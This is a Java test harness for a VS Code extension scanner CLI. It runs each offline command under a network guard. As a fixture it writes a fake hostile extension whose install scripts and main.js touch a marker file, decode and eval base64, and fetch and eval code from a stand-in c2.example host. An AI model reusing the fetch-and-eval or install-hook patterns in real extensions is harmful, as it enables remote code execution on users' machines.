package dev.vsxray.cli;

import dev.vsxray.cli.command.Host;
import dev.vsxray.cli.command.Surroundings;
import dev.vsxray.nightly.program.Programs;
import dev.vsxray.nightly.quarantine.Processes;
import dev.vsxray.online.provenance.OnlineServices;
import dev.vsxray.scanner.Scanner;
import dev.vsxray.scanner.locate.Machine;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import picocli.CommandLine;

/**
 * Runs every command that does not say that it goes online under a {@link SilenceGuard}, and prints its exit code and what
 * was tried. Started by {@link OfflineTest} in a process of its own, since the guard cannot be taken off again.
 */
final class EveryCommand {

    /** Those whose names or options say that they go online. {@code notify test} tells whom the settings name. */
    private static final List<String> ONLINE = List.of("download", "updates", "intel update");

    private static final String EXTENSION = ".vscode/extensions/acme.tool-1.0.0";

    /** What nobody sees unless the code of the extension below is run. */
    static final String MARK = "it-ran";

    private final Path folder;
    private final Programs crontab = new Crontab();

    private EveryCommand(Path folder) {
        this.folder = folder;
    }

    /** @param arguments the folder to work in */
    public static void main(String[] arguments) throws IOException, InterruptedException {
        EveryCommand commands = new EveryCommand(Path.of(arguments[0]));
        commands.layOut();
        List<String> untried = leaves("", commands.commandLine(nowhere()));
        untried.removeAll(ONLINE);
        for (List<String> command : COMMANDS) {
            String words = String.join(" ", command);
            untried.removeIf(leaf -> words.equals(leaf) || words.startsWith(leaf + " "));
            int before = SilenceGuard.attempts().size();
            int exitCode = commands.run(command);
            List<String> attempts = SilenceGuard.attempts();
            System.out.println(exitCode + " " + words + " " + attempts.subList(before, attempts.size()));
        }
        System.out.println("untried: " + untried);
        int before = SilenceGuard.attempts().size();
        commands.run(List.of("scan", "acme.tool", "--online", "--gallery", "http://127.0.0.1:9/"));
        System.out.println("online: " + (SilenceGuard.attempts().size() - before));
        WaysOut.all().forEach((name, way) -> System.out.println((isRefused(way) ? "refused " : "NOT REFUSED ") + name));
        // The default clients of the JDK keep threads.
        System.exit(0);
    }

    private static boolean isRefused(WaysOut.Way way) {
        int before = SilenceGuard.attempts().size();
        try {
            way.take();
            return false;
        } catch (InterruptedException interrupted) {
            Thread.currentThread().interrupt();
            return false;
        } catch (IOException | RuntimeException refused) {
            return SilenceGuard.attempts().size() > before;
        }
    }

    private static final List<List<String>> COMMANDS = List.of(
            List.of("--help"),
            List.of("scan"),
            List.of("scan", EXTENSION, "-o", "reports/old.json", "-o", "report.html", "-o", "bom.cdx.json"),
            List.of("scan", EXTENSION, "--baseline", "reports/old.json", "--format", "sarif"),
            List.of("demo"),
            List.of("diff", "reports/old.json", EXTENSION),
            List.of("fleet", "report", "reports"),
            List.of("policy", "export", "reports/old.json"),
            List.of("rules", "list"),
            List.of("rules", "explain", "network-data-becomes-code"),
            List.of("rules", "new", "has-a-name", "own/hygiene"),
            List.of("rules", "features", EXTENSION),
            List.of("rules", "test", "rules"),
            List.of("rules", "coverage", "rules"),
            List.of("rules", "bench", ".vscode/extensions"),
            List.of("config", "show"),
            List.of("strings", EXTENSION + "/main.js"),
            List.of("decode", "cmVxdWlyZSgnZnMnKQ=="),
            List.of("allow", "acme.other", "--reason", "Read.", "--expires", "never", "--owner", "ada"),
            List.of("deny", "acme.bad", "--reason", "Bad.", "--expires", "never", "--owner", "ada"),
            List.of(
                    "suppress",
                    "acme.tool",
                    "--rule",
                    "names-no-repository",
                    "--reason",
                    "Known.",
                    "--expires",
                    "never",
                    "--owner",
                    "ada"),
            List.of("intel", "import", "list.txt", "--name", "ours"),
            List.of("intel", "npm-files", "files.tsv"),
            List.of("intel", "status"),
            List.of("intel", "diff", "shipped", "current"),
            List.of("intel", "export", "team.vsxi"),
            List.of("intel", "keys", "team"),
            List.of(
                    "intel",
                    "sign",
                    "team.vsxi",
                    "--private-key",
                    "team.private.pem",
                    "--public-key",
                    "team.public.pem"),
            List.of("intel", "verify", "team.vsxi", "--key", "team.public.pem"),
            List.of("nightly", "run"),
            List.of("nightly", "run", "--no-cache"),
            List.of("nightly", "install", "--scheduler", "cron"),
            List.of("nightly", "status", "--scheduler", "cron"),
            List.of("nightly", "remove", "--scheduler", "cron"),
            List.of("history", "list"),
            List.of("history", "show", "acme.tool"),
            List.of("history", "trend"),
            List.of("history", "export"),
            List.of("notify", "test"),
            List.of("watch", "-q"),
            List.of("quarantine", "acme.tool"),
            List.of("restore", "acme.tool"));

    /** An extension that names many ways to be run, would leave a mark, and has all kinds of content. */
    private void layOut() throws IOException {
        String mark = folder.resolve(MARK).toString().replace("\\", "\\\\");
        write(EXTENSION + "/package.json", """
                {"publisher": "acme", "name": "tool", "version": "1.0.0", "engines": {"vscode": "*"},
                 "main": "./main.js", "activationEvents": ["*"],
                 "scripts": {"vscode:uninstall": "touch %1$s", "postinstall": "touch %1$s"},
                 "icon": "https://c2.example/icon.png"}
                """.formatted(mark));
        write(EXTENSION + "/main.js", """
                require('fs').writeFileSync('%1$s', 'x');
                require('child_process').execSync('touch %1$s');
                eval(Buffer.from('cmVxdWlyZSgnZnMnKQ==', 'base64').toString());
                require('https').get('https://c2.example/x', response => response.on('data', data => eval(data)));
                """.formatted(mark));
        write(EXTENSION + "/page.html", "<script src='https://c2.example/x.js'></script><img src='//c2.example/p'>");
        write(EXTENSION + "/run.sh", "#!/bin/sh\ntouch " + mark + "\n");
        write("list.txt", "acme.bad\n");
        write("files.tsv", "package\tversion\tpath\tsha256\nleft-pad\t1.0.0\tindex.js\t" + "9c".repeat(32) + "\n");
        write("state/notify.yaml", "notify: {threshold: risky, channels: [{type: file, path: events.jsonl}]}\n");
        Files.createDirectories(folder.resolve("reports"));
        Files.createDirectories(folder.resolve("rules"));
    }

    private void write(String path, String text) throws IOException {
        Path file = folder.resolve(path);
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
    }

    /** Commands without commands of their own. */
    private static List<String> leaves(String name, CommandLine command) {
        List<String> leaves = new ArrayList<>();
        if (command.getSubcommands().isEmpty()) {
            leaves.add(name);
        }
        command.getSubcommands()
                .forEach((word, below) -> leaves.addAll(leaves(name.isEmpty() ? word : name + " " + word, below)));
        return leaves;
    }

    private int run(List<String> command) throws InterruptedException {
        ByteArrayOutputStream said = new ByteArrayOutputStream();
        CommandLine line = commandLine(new PrintStream(said, true, StandardCharsets.UTF_8));
        if (!command.get(0).equals("watch")) {
            return explained(line.execute(command.toArray(String[]::new)), said);
        }
        int[] code = {-1};
        Thread watching = new Thread(() -> code[0] = line.execute(command.toArray(String[]::new)));
        watching.start();
        while (watching.isAlive() && !said.toString(StandardCharsets.UTF_8).contains("watching 1 folder")) {
            Thread.sleep(20);
        }
        // What Ctrl-C does.
        watching.interrupt();
        watching.join();
        return explained(code[0], said);
    }

    /** What a command said is only of interest where it failed, and then to people. */
    private static int explained(int code, ByteArrayOutputStream said) {
        if (code > 1) {
            System.err.print(said.toString(StandardCharsets.UTF_8));
        }
        return code;
    }

    private static PrintStream nowhere() {
        return new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8);
    }

    private CommandLine commandLine(PrintStream out) {
        Surroundings around = new Surroundings(
                out,
                out,
                false,
                false,
                StandardCharsets.UTF_8,
                Map.of(
                        "HOME",
                        folder.toString(),
                        "VSXRAY_STATE",
                        folder.resolve("state").toString()),
                folder,
                Clock.systemUTC());
        Machine machine = new Machine(Machine.Os.LINUX, folder, folder, Map.of());
        Path java = Path.of(System.getProperty("java.home"), "bin", "java");
        Host host = new Host(machine, crontab, nobody(), List.of(java.toString()), ZoneOffset.UTC);
        return Vsxray.commandLine(
                new Scanner(machine, "", "test", around.clock())::scan, around, host, OnlineServices::publicOnes);
    }

    private static Processes nobody() {
        return new Processes() {
            @Override
            public List<Running> running() {
                return List.of();
            }

            @Override
            public boolean isRunning(long pid) {
                return false;
            }
        };
    }

    /** The one program that is there. */
    private static final class Crontab implements Programs {

        private String table = "";

        @Override
        public Outcome run(Invocation invocation) {
            if (invocation.words().equals(List.of("crontab", "-"))) {
                table = invocation.input();
            }
            return new Outcome(0, table, "");
        }

        @Override
        public boolean has(String name) {
            return name.equals("crontab");
        }
    }
}
